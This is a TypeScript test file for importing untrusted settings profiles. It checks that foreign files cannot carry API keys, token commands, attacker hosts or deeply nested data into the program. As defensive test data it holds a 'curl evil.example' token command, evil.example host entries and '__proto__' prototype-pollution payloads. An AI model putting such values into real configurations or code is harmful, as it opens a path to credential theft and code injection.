/** Profile files that somebody else made: whatever stands in them, the settings stay whole and nothing is trusted. */
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { importProfiles, profilesToText } from '#core/settings/profiles'
import { defaultProfile, defaultSettings } from '#core/settings/defaults'
import { settingsSchema } from '#core/settings/schema'

const settings = defaultSettings('other')
let made = 0
const newId = (): string => `id${(made += 1)}`
const file = (profile: unknown): string =>
  JSON.stringify({ kind: 'parley-profiles', version: 1, profiles: [profile] })
const read = (text: string) => importProfiles(settings, text, newId)
/** The profile as it arrives, or why it does not. */
const arrives = (profile: unknown) => {
  const result = read(file(profile))
  return result.ok ? result.value.settings.profiles.at(-1) : result.error
}

describe('a foreign profile file', () => {
  it.each([
    ['a list for a name', { name: ['a'] }],
    ['a number for the instructions', { instructions: 5 }],
    ['an unknown provider', { provider: '__proto__' }],
    ['an unknown way of the key', { access: { auth: 'constructor' } }],
    ['null for the access', { access: null }],
    ['a list for the access', { access: [] }],
    ['endless instructions', { instructions: 'x'.repeat(20_001) }],
    ['an endless name', { name: 'n'.repeat(81) }],
    ['too many functions', { tools: { functions: Array.from({ length: 65 }, () => ({})) } }],
    ['a speed beyond sense', { speed: 1e308 }],
    ['a threshold that is no number', { turnTaking: { threshold: 'NaN' } }],
  ])('with %s is refused', (_, profile) => {
    expect(arrives(profile)).toBe('invalid')
  })

  it('brings no key, wherever it is hidden', () => {
    const key = 'sk-0123456789abcdef'
    const arrived = arrives({
      key,
      apiKey: key,
      endpoint: `wss://h.example/v1?api_key=${key}`,
      access: {
        key,
        headers: [
          { name: 'authorization', value: `Bearer ${key}` },
          { name: 'x-note', value: key },
          { name: 'x-team', value: 'blue' },
        ],
      },
      session: { key },
    })
    expect(JSON.stringify(arrived)).not.toContain(key)
    expect(arrived).toMatchObject({
      endpoint: null,
      access: { headers: [{ name: 'x-team', value: 'blue' }] },
    })
  })

  it('brings no leave: no command, no unencrypted host, no host for functions', () => {
    expect(
      arrives({
        access: {
          tokenCommand: 'curl evil.example',
          tokenHost: 'evil.example:443',
          plainHost: '10.0.0.1:80',
        },
        tools: { allowedHosts: ['evil.example'] },
      }),
    ).toMatchObject({
      access: { tokenCommand: '', tokenHost: null, plainHost: null },
      tools: { allowedHosts: [] },
    })
  })

  it('cannot reach into the program by the names of its fields', () => {
    const text = `{"kind":"parley-profiles","version":1,"__proto__":{"polluted":1},"profiles":[
      {"__proto__":{"polluted":1,"name":"X"},"constructor":{"prototype":{"polluted":1}},"name":"__proto__",
       "access":{"__proto__":{"tokenCommand":"steal"},"headers":[{"name":"__proto__","value":"x"}]},
       "tools":{"functions":[],"builtIn":{"__proto__":{"open_web_link":true}}}}]}`
    const result = read(text)
    if (!result.ok) throw new Error(result.error)
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
    const arrived = result.value.settings.profiles.at(-1)
    expect(arrived).toMatchObject({ name: '__proto__', access: { tokenCommand: '' } })
    expect(Object.keys(arrived ?? {})).toEqual(Object.keys(defaultProfile))
    expect(Object.getPrototypeOf(arrived)).toBe(Object.prototype)
  })

  it('of depth and length beyond sense is refused, not lived through', () => {
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`
    expect(read(deep)).toMatchObject({ ok: false })
    expect(
      read(`{"kind":"parley-profiles","version":1,"profiles":[{"instructions":${deep}}]}`),
    ).toMatchObject({
      ok: false,
    })
    const many = `{"kind":"parley-profiles","version":1,"profiles":[${Array(5000).fill('{}').join()}]}`
    expect(read(many)).toEqual({ ok: false, error: 'too_many' })
  })

  it('with anything changed anywhere gives valid settings or a reason, and never trust', () => {
    const whole = JSON.parse(profilesToText([defaultProfile])) as { profiles: Record<string, unknown>[] }
    const fields = Object.keys(whole.profiles[0] ?? {})
    const access = Object.keys(defaultProfile.access)
    const change = fc.oneof(
      fc.tuple(fc.constantFrom(...fields), fc.jsonValue()).map(([field, value]) => ({ [field]: value })),
      fc
        .tuple(fc.constantFrom(...access), fc.oneof(fc.jsonValue(), fc.string()))
        .map(([field, value]) => ({ access: { [field]: value } })),
    )
    fc.assert(
      fc.property(fc.array(change, { maxLength: 4 }), (changes) => {
        const result = read(file(Object.assign({}, ...changes)))
        if (!result.ok) return
        expect(settingsSchema.safeParse(result.value.settings).success).toBe(true)
        const { access: arrived, tools } = result.value.settings.profiles.at(-1) ?? defaultProfile
        expect([arrived.tokenCommand, arrived.tokenHost, arrived.plainHost, tools.allowedHosts]).toEqual([
          '',
          null,
          null,
          [],
        ])
      }),
      { numRuns: 300 },
    )
  })
})
